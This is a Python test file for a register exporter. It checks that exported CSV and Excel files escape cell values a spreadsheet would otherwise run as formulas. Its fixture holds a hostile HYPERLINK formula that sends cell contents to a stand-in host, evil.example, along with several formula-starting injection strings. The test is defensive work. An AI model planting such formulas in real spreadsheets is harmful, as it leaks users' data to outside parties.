"""The register as an office opens it (issue 21.2, 21.3): no cell a spreadsheet would run as
a formula, and a workbook that reads and prints well in Excel. Read back as the office
would: the csv module for the CSV, openpyxl for the workbook (cell types, widths, page
set-up)."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from tests.pdf_reading import blank_pdf, png
from tests.village import APPLICATION, Village

ID = "somu-evil"
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"x")'
# Every character OWASP names as starting a formula, each as a service's name.
NAMES = {"+": "+1+cmd", "-": "-2+3", "@": "@SUM(1,1)"}


def yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture
def hostile(village: Village) -> Village:
    (village.files / "signup.png").write_bytes(png())
    (village.files / "terms.pdf").write_bytes(blank_pdf())
    text = APPLICATION.format(id=ID, info_class=3)
    text = text.replace("provider: Google LLC", f"provider: {yaml_quoted(HOSTILE)}")
    text = text.replace("name: Google ドライブ", f"name: {yaml_quoted(NAMES['+'])}")
    source = village.write(f"{ID}.yaml", text)
    village.ok(
        "apply", "--from", str(source),
        "--attach", f"signup={village.files / 'signup.png'}",
        "--attach", f"terms={village.files / 'terms.pdf'}",
        "--date", "2026-03-20",
    )  # fmt: skip
    for key, name in NAMES.items():
        other = text.replace(f"id: {ID}", f"id: somu-evil{ord(key)}")
        other = other.replace(yaml_quoted(NAMES["+"]), yaml_quoted(name))
        source = village.write(f"other{ord(key)}.yaml", other)
        village.ok("apply", "--from", str(source), "--date", "2026-03-20")
    village.ok("validate")  # accepted: a name is a name; only the register must not run it
    return village


def test_csv_cells_cannot_start_a_formula(hostile: Village, tmp_path: Path) -> None:
    target = tmp_path / "register.csv"
    hostile.ok("register", "--format", "csv", "--as-of", "2026-05-10", "-o", str(target))
    data = target.read_bytes()
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8-sig"), newline="")))
    header = rows[0]
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    evil = next(r for r in body if r["管理番号"] == ID)
    assert evil["提供者"] == "'" + HOSTILE  # shown as written, after the escaping quote
    assert evil["サービス"] == "'" + NAMES["+"]
    assert {r["サービス"] for r in body} == {"'" + n for n in NAMES.values()}
    assert evil["申請日"] == "2026-03-20"  # dates and plain text are left as they were


def test_xlsx_text_cells_are_strings_never_formulas(hostile: Village, tmp_path: Path) -> None:
    target = tmp_path / "register.xlsx"
    hostile.ok("register", "--as-of", "2026-05-10", "-o", str(target))
    book = openpyxl.load_workbook(target)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    provider = header.index("提供者") + 1
    cells = {sheet.cell(r, 1).value: sheet.cell(r, provider) for r in range(2, sheet.max_row + 1)}
    evil = cells[ID]
    assert evil.value == HOSTILE and evil.data_type == "s"
    assert evil.quotePrefix  # stays text when a clerk edits the cell in Excel
    # The raw sheet holds no <f> element at all: nothing for Excel to evaluate.
    import zipfile

    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
